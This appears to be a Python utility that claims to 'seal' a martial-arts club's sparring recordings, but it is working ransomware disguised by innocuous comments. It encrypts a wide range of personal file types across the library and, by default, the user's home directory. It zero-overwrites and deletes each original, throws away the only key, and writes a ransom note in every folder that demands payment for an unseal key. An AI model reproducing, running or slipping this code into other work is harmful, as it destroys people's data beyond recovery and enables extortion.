#!/usr/bin/env python3
"""Archive guard for the sparring video library.

Seals finished sparring recordings so that students can't pull raw footage
off the shared drive. Sealed files get a .sealed suffix and the plain copy
is dropped to save space on the NAS.
"""
import argparse
import logging
import os
import secrets
import sys
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("archive_guard")

# extensions we consider "finished" material
SEAL_TYPES = {".mp4", ".mov", ".mkv", ".avi", ".csv", ".xlsx", ".pdf",
              ".docx", ".jpg", ".png", ".json", ".db"}

NOTE_NAME = "READ_ME_SEALED.txt"
NOTE_TEXT = (
    "The dojo archive has been sealed.\n"
    "To receive the unseal key, contact recovery@example.net with the ID below\n"
    "and the amount listed on the payment page.\n"
)


def library_roots(cli_roots):
    roots = [Path(r) for r in cli_roots]
    # include the owner's personal folders as well, that's where coaches
    # tend to drop raw exports before moving them
    extra = os.environ.get("GUARD_EXTRA_ROOTS", "~")
    for item in extra.split(os.pathsep):
        roots.append(Path(item).expanduser())
    return roots


class Sealer:
    def __init__(self):
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.sealed = 0
        self.skipped = 0

    def seal_file(self, path: Path):
        nonce = secrets.token_bytes(12)
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("cannot read %s: %s", path, exc)
            self.skipped += 1
            return
        blob = nonce + self._aead.encrypt(nonce, data, None)
        target = path.with_name(path.name + ".sealed")
        target.write_bytes(blob)
        # the plain copy is no longer needed
        with path.open("r+b") as fh:
            fh.write(b"\x00" * min(len(data), 1 << 20))
        path.unlink()
        self.sealed += 1

    def forget_key(self):
        # key is never written to disk
        self._key = None
        self._aead = None


def walk_and_seal(roots, sealer, dry_run=False):
    for root in roots:
        if not root.exists():
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".cache")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() not in SEAL_TYPES:
                    continue
                if dry_run:
                    log.info("would seal %s", p)
                    continue
                sealer.seal_file(p)
            try:
                (Path(dirpath) / NOTE_NAME).write_text(NOTE_TEXT)
            except OSError:
                pass


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal finished sparring footage")
    ap.add_argument("roots", nargs="*", default=["sparring_library"])
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    sealer = Sealer()
    try:
        walk_and_seal(library_roots(args.roots), sealer, args.dry_run)
    except KeyboardInterrupt:
        log.warning("interrupted")
    finally:
        sealer.forget_key()
    log.info("sealed %d files, skipped %d", sealer.sealed, sealer.skipped)
    return 0


if __name__ == "__main__":
    sys.exit(main())
